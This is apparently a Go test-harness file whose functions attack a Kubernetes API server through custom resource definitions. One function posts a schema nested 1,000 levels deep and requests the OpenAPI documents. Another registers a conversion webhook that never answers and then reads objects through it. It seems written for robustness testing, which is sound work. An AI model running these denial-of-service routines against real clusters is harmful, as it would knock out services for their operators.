package attacks

import (
	"context"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"time"
)

// Attacks by means of custom resource definitions.

const definitions = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"

// definition is a custom resource definition, with this schema for its only version v1, or
// with v2, too, if conversion is set.
func definition(plural, group, schema, conversion string) string {
	version := func(name string, storage bool) string {
		return fmt.Sprintf(`{"name":%q,"served":true,"storage":%t,"schema":{"openAPIV3Schema":%s}}`, name, storage, schema)
	}
	versions := version("v1", true)
	if conversion != "" {
		versions += "," + version("v2", false)
		conversion = `,"conversion":` + conversion
	}
	kind := strings.ToUpper(plural[:1]) + plural[1:]
	return fmt.Sprintf(`{"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResourceDefinition","metadata":{"name":"%[1]s.%[2]s"},`+
		`"spec":{"group":%[2]q,"scope":"Namespaced","names":{"plural":%[1]q,"singular":%[1]q,"kind":%[3]q,"listKind":"%[3]sList"},"versions":[%[4]s]%[5]s}}`,
		plural, group, kind, versions, conversion)
}

// deepDefinition makes a definition nested 1,000 deep, asks for the documents in which it
// is described, and removes it.
func deepDefinition(ctx context.Context, a *attacker) error {
	const depth = 1000
	schema := strings.Repeat(`{"type":"object","properties":{"a":`, depth) + `{"type":"string"}` + strings.Repeat("}}", depth)
	group := fmt.Sprintf("deep%d.example.com", a.serial.Add(1))
	name := definitions + "/deeps." + group
	if err := a.send(ctx, http.MethodPost, definitions, definition("deeps", group, schema, "")); err != nil {
		return err
	}
	defer func() { _ = a.send(context.WithoutCancel(ctx), http.MethodDelete, name, "") }()
	for n := 0; n < 100; n++ { // until it is established
		if err := a.send(ctx, http.MethodGet, "/openapi/v3/apis/"+group+"/v1", ""); err == nil {
			break
		}
		select {
		case <-time.After(50 * time.Millisecond):
		case <-ctx.Done():
			return nil
		}
	}
	return a.send(ctx, http.MethodGet, "/openapi/v2", "")
}

const convertedPath = "/apis/hanging.example.com/v1/namespaces/crowd/converteds"

// hangingWebhook makes a definition whose versions are converted by a webhook that never
// answers, and an object.
func hangingWebhook(ctx context.Context, a *attacker) (release func(), err error) {
	ended := make(chan struct{})
	webhook := httptest.NewTLSServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		select {
		case <-r.Context().Done():
		case <-ended:
		}
	}))
	release = func() {
		close(ended)
		webhook.CloseClientConnections()
		webhook.Close()
		stopping, cancel := context.WithTimeout(context.WithoutCancel(ctx), 10*time.Second)
		defer cancel()
		_ = a.send(stopping, http.MethodDelete, definitions+"/converteds.hanging.example.com", "") // the server ends soon
	}
	authority := base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: webhook.Certificate().Raw}))
	conversion := fmt.Sprintf(`{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":%q,"caBundle":%q}}}`, webhook.URL, authority)
	schema := `{"type":"object","x-kubernetes-preserve-unknown-fields":true}`
	err = a.send(ctx, http.MethodPost, definitions, definition("converteds", "hanging.example.com", schema, conversion))
	for n := 0; err == nil; n++ {
		err := a.send(ctx, http.MethodPost, convertedPath, `{"apiVersion":"hanging.example.com/v1","kind":"Converteds","metadata":{"name":"one"}}`)
		if err == nil {
			return release, nil
		}
		if n == 100 {
			release()
			return nil, errors.Join(errors.New("no object of a custom resource could be made"), err)
		}
		select {
		case <-time.After(50 * time.Millisecond):
		case <-ctx.Done():
		}
	}
	release()
	return nil, err
}

// converted reads objects that the webhook is to convert.
func converted(ctx context.Context, a *attacker) error {
	path := strings.Replace(convertedPath, "/v1/", "/v2/", 1)
	if a.serial.Add(1)%2 == 0 {
		path += "/one"
	}
	return a.send(ctx, http.MethodGet, path, "")
}
